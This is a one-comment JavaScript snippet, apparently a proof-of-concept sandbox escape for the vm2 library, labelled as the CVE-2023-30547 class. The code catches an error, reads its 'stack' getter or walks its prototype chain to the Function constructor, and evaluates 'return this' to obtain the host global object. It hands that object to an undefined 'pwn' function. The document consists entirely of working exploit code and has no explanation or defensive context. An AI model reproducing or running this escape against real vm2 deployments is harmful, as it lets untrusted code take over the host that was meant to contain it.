// vm2 CVE-2023-30547 class: getters of host errors
try { fail() } catch (e) { const d = Object.getOwnPropertyDescriptor(e, 'stack'); if (d && d.get) pwn(d.get.constructor('return this')()); pwn(Object.getPrototypeOf(Object.getPrototypeOf(e)).constructor.constructor('return this')()); }
